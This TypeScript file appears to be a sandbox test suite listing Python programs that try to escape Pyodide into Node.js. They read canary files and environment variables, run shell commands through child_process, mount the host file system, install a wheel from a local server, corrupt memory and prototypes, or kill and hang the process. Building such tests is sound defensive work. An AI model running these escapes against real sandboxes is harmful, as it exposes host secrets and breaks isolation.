/**
 * Programs that leave Python for the JavaScript around it: the doors of Pyodide and of emscripten.
 */
import { programs, python } from './program.ts'

const doors = programs('javascript', 'escape', {
  'global-process': python`
    import js
    ans = str(js.process.getBuiltinModule("fs").readFileSync("{{canaryFile}}", "utf8"))
  `,
  'process-environment': python`
    import js
    ans = js.process.env.{{canaryVariable}}
  `,
  'process-binding': python`
    import js
    ans = str(js.process.binding("fs").internalModuleReadJSON("{{canaryFile}}")) + str(js.process.binding("spawn_sync"))
  `,
  'child-process': python`
    import js
    options = js.JSON.parse('{"encoding": "utf8"}')
    ans = str(js.process.getBuiltinModule("child_process").execSync("cat '{{canaryFile}}'", options))
  `,
  'global-function-constructor': python`
    import js
    ans = str(js.Function("return process.getBuiltinModule('fs').readFileSync('{{canaryFile}}', 'utf8')")())
  `,
  'global-eval': python`
    import js
    ans = str(js.eval("process.getBuiltinModule('fs').readFileSync('{{canaryFile}}', 'utf8')"))
  `,
  'constructor-of-the-globals': python`
    import js
    ans = str(js.constructor.constructor("return process")().getBuiltinModule("fs").readFileSync("{{canaryFile}}", "utf8"))
  `,
  'reflect-construct': python`
    import js
    def solution():
        run = js.Reflect.construct(js.Object.getPrototypeOf(js.eval).constructor, ["return process.env.{{canaryVariable}}"])
        return run()
  `,
  'old-require': python`
    import js
    ans = str(js.process.mainModule.require("fs").readFileSync("{{canaryFile}}", "utf8"))
  `,
  'global-fetch': python`
    import js
    def solution():
        js.fetch("http://127.0.0.1:{{canaryPort}}/")
        return "asked"
  `,
  'global-worker': python`
    import js
    def solution():
        Worker = js.process.getBuiltinModule("worker_threads").Worker
        options = js.Object.fromEntries([["eval", True]])
        Worker.new("require('fs').writeFileSync('{{proof}}', 'here')", options)
        js.Atomics.wait(js.Int32Array.new(js.SharedArrayBuffer.new(4)), 0, 0, 1000)
  `,
  'new-context': python`
    import js
    ans = str(js.process.getBuiltinModule("vm").runInThisContext("process.env.{{canaryVariable}}"))
  `,
  'inspector-session': python`
    import js
    def solution():
        inspector = js.process.getBuiltinModule("inspector")
        session = inspector.Session.new()
        session.connect()
        options = js.Object.fromEntries([["expression", "process.getBuiltinModule('fs').writeFileSync('{{proof}}', 'here')"]])
        return session.post("Runtime.evaluate", options)
  `,
  'run-js': python`
    from pyodide.code import run_js
    ans = run_js("process.getBuiltinModule('fs').readFileSync('{{canaryFile}}', 'utf8')")
  `,
  'array-constructor': python`
    from pyodide.ffi import to_js
    ans = to_js([1]).constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'buffer-constructor': python`
    from pyodide.ffi import to_js
    ans = to_js(b"bytes").constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'set-iterator-constructor': python`
    from _pyodide_core import to_js
    def solution():
        return to_js({1, 2}).values().next.constructor("return process.env.{{canaryVariable}}")()
  `,
  'proxy-constructor': python`
    from pyodide.ffi import create_proxy
    ans = create_proxy(lambda: 1).toString.constructor("return process.env.{{canaryVariable}}")()
  `,
  'once-callable-constructor': python`
    from pyodide.ffi import create_once_callable
    ans = create_once_callable(print).bind.constructor("return process.env.{{canaryVariable}}")()
  `,
  'converter-argument': python`
    from pyodide.ffi import to_js
    def solution():
        leaked = []
        class Unknown:
            pass
        to_js(Unknown(), default_converter=lambda value, convert, cache: leaked.append((convert, cache)))
        return leaked[0][0].constructor("return process.env.{{canaryVariable}}")()
  `,
  'dictionary-converter': python`
    from pyodide.ffi import to_js
    def solution():
        leaked = []
        to_js({"a": 1}, dict_converter=lambda entries: leaked.append(entries))
        return leaked[0].constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'promise-converter': python`
    import _pyodide_core
    def solution():
        converter = _pyodide_core.create_promise_converter(lambda *a: None)
        return converter.constructor("return process.env.{{canaryVariable}}")()
  `,
  'error-constructor': python`
    from pyodide.ffi import JsException
    def solution():
        try:
            import pyodide_js
            pyodide_js.runPython(1, 2, 3)
        except JsException as error:
            return error.constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'mount-node': python`
    import os, pyodide_js
    def solution():
        pyodide_js.mountNodeFS("/host", "/")
        return open("/host{{canaryFile}}").read()
  `,
  'mount-by-emscripten': python`
    import js, os, pyodide_js
    def solution():
        os.mkdir("/tmp/host")
        files = pyodide_js.FS
        files.mount(files.filesystems.NODEFS, js.Object.fromEntries([["root", "/"]]), "/tmp/host")
        return open("/tmp/host{{canaryFile}}").read()
  `,
  'mount-then-write': python`
    import pyodide_js
    def solution():
        pyodide_js.mountNodeFS("/host", "{{canaryDirectory}}")
        open("/host/javascript.mount-then-write", "w").write("here")
  `,
  'lazy-file': python`
    import pyodide_js
    def solution():
        pyodide_js.FS.createLazyFile("/tmp", "lazy", "http://127.0.0.1:{{canaryPort}}/lazy", True, False)
        return open("/tmp/lazy").read()
  `,
  'unpack-native-path': python`
    import pyodide_js
    ans = str(pyodide_js._module.PATH.constructor.constructor("return process.env.{{canaryVariable}}")())
  `,
  'load-package-from-server': python`
    import pyodide_js
    def solution():
        pyodide_js.loadPackage("http://127.0.0.1:{{canaryPort}}/evil-1.0-py3-none-any.whl")
        return "asked"
  `,
  'node-sockets': python`
    import pyodide_js, socket
    def solution():
        pyodide_js.useNodeSockFS()
        s = socket.socket()
        return s.connect(("127.0.0.1", {{canaryPort}}))
  `,
  'http-helper': python`
    from pyodide.http import open_url
    ans = open_url("http://127.0.0.1:{{canaryPort}}/").read()
  `,
  'http-helper-later': python`
    import asyncio
    from pyodide.http import pyfetch
    def solution():
        asyncio.ensure_future(pyfetch("http://127.0.0.1:{{canaryPort}}/"))
        return "asked"
  `,
  'internal-interface': python`
    import pyodide_js
    ans = str(pyodide_js._api.config.constructor.constructor("return process.env.{{canaryVariable}}")())
  `,
  'package-manager': python`
    import micropip, asyncio
    ans = asyncio.ensure_future(micropip.install("http://127.0.0.1:{{canaryPort}}/evil-1.0-py3-none-any.whl"))
  `,
})

const hidden = programs('javascript', 'escape', {
  'forgotten-imports': python`
    import sys
    def solution():
        for name in [n for n in sys.modules if n.split(".")[0] in ("js", "pyodide_js", "pyodide", "_pyodide", "_pyodide_core")]:
            del sys.modules[name]
        import _pyodide_core
        return _pyodide_core.to_js([1]).constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'import-hook-finder': python`
    def solution():
        from _pyodide._importhook import jsfinder
        module = jsfinder.jsproxies["js"]
        return module.process.env.{{canaryVariable}}
  `,
  'finder-on-the-path': python`
    import sys
    def solution():
        for finder in sys.meta_path:
            proxies = getattr(finder, "jsproxies", {})
            for proxy in proxies.values():
                return proxy.constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'proxies-of-the-heap': python`
    import gc
    def solution():
        for thing in gc.get_objects():
            if type(thing).__name__ == "JsFinder":
                return thing.jsproxies["js"].process.env.{{canaryVariable}}
            if type(thing).__name__.startswith("Js") and hasattr(thing, "constructor"):
                return thing.constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'functions-of-the-heap': python`
    import gc
    def solution():
        for thing in gc.get_objects():
            if type(thing) is type(len) and thing.__name__ == "to_js":
                return thing([1]).constructor.constructor("return process.env.{{canaryVariable}}")()
            if isinstance(thing, dict) and type(thing.get("to_js")) is type(len):
                return thing["to_js"]([1]).constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'built-in-again': python`
    import _imp, types
    def solution():
        core = _imp.create_builtin(types.SimpleNamespace(name="_pyodide_core", origin="built-in", loader=None))
        _imp.exec_builtin(core)
        return core.to_js([1]).constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'source-of-the-package': python`
    import sys, zipimport
    def solution():
        archive = next(p for p in sys.path if p.endswith(".zip"))
        for name in [n for n in sys.modules if "yodide" in n and n != "_pyodide_core"]:
            sys.modules.pop(name)
        sys.path.insert(0, archive)
        from pyodide.code import run_js
        return run_js("process.env.{{canaryVariable}}")
  `,
  'names-of-helpers': python`
    import pyodide.ffi.wrappers, pyodide.webloop
    def solution():
        for module in (pyodide.ffi.wrappers, pyodide.webloop):
            for thing in list(vars(module).values()):
                if type(thing).__name__.startswith("Js") and hasattr(thing, "constructor"):
                    return thing.constructor("return process.env.{{canaryVariable}}")()
  `,
  'event-loop': python`
    import asyncio
    def solution():
        loop = asyncio.new_event_loop()
        for scope in [getattr(f, "__globals__", {}) for f in vars(type(loop)).values()]:
            if "scheduleCallback" in scope:
                return scope["scheduleCallback"].constructor("return process.env.{{canaryVariable}}")()
  `,
  'promise-of-a-loop': python`
    from pyodide.ffi import run_sync, to_js
    import asyncio
    async def wait():
        return 1
    def solution():
        return run_sync(wait())
  `,
  'forged-proxy': python`
    import ctypes
    from pyodide.ffi import to_js
    def solution():
        one, other = to_js([1]), to_js([2])
        words = ctypes.c_uint32 * (type(one).__basicsize__ // 4)
        first, second = words.from_address(id(one)), words.from_address(id(other))
        reference = next(word for word in range(2, len(first)) if first[word] != second[word])
        for guess in (3, 5, 7, 9, 11, 13, 1):
            copy = words(*first)
            copy[0], copy[reference] = 1 << 28, guess
            kept.append(copy)
            try:
                forged = ctypes.cast(ctypes.addressof(copy), ctypes.py_object).value
                return forged.process.env.{{canaryVariable}}
            except AttributeError:
                pass
    kept = []
  `,
  'proxy-type-by-hand': python`
    import _pyodide_core
    def solution():
        for t in object.__subclasses__():
            if t.__module__ == "pyodide.ffi" and t.__name__.startswith("Js"):
                return object.__new__(t).constructor.constructor("return process.env.{{canaryVariable}}")()
  `,
  'raw-call': python`
    import _pyodide_core
    def solution():
        make = _pyodide_core.to_js([1]).constructor.constructor
        return _pyodide_core.raw_call(make.bind(None, "return process.env.{{canaryVariable}}"))()
  `,
})

const effects = programs('javascript', 'poison', {
  'poison-prototype': python`
    from pyodide.ffi import to_js
    def solution():
        to_js([1]).constructor.prototype.push = None
        return "ok"
  `,
  'poison-json': python`
    import js
    def solution():
        js.JSON.parse = lambda *a: None
        js.Object.prototype.status = "ok"
        return "ok"
  `,
  'poison-memory': python`
    import pyodide_js
    def solution():
        heap = pyodide_js._module.HEAPU8
        heap.fill(0, 1 << 20, 2 << 20)
        return "ok"
  `,
  'poison-output': python`
    import pyodide_js
    def solution():
        pyodide_js.setStdout()
        pyodide_js.registerJsModule("math", pyodide_js)
        return "ok"
  `,
  'poison-file-system': python`
    import pyodide_js
    def solution():
        pyodide_js.FS.writeFile("/lib/python314.zip", "")
        pyodide_js.FS.chdir("/tmp")
        return "ok"
  `,
  'poison-proxy-registry': python`
    from pyodide.ffi import create_proxy
    kept = [create_proxy(lambda: n) for n in range(2000)]
    ans = "ok"
  `,
  'stay-behind': python`
    import js
    def solution():
        js.setInterval(js.Function("globalThis.visits = (globalThis.visits || 0) + 1"), 1)
        return "ok"
  `,
})

const ends = programs('javascript', 'exit', {
  'process-exit': python`
    import js
    ans = js.process.exit(0)
  `,
  'process-kill': python`
    import js
    ans = js.process.kill(js.process.pid, "SIGKILL")
  `,
  'fatal-error': python`
    import _pyodide_core
    ans = _pyodide_core.trigger_fatal_error()
  `,
})

const hangs = programs(
  'javascript',
  'hang',
  {
    'loop-in-javascript': python`
      import js
      ans = js.eval("while (true) {}")
    `,
    'sleep-in-javascript': python`
      import js
      ans = js.Atomics.wait(js.Int32Array.new(js.SharedArrayBuffer.new(4)), 0, 0)
    `,
  },
  ['timeout', 'error', 'refused'],
)

export const javascript = [...doors, ...hidden, ...effects, ...ends, ...hangs]
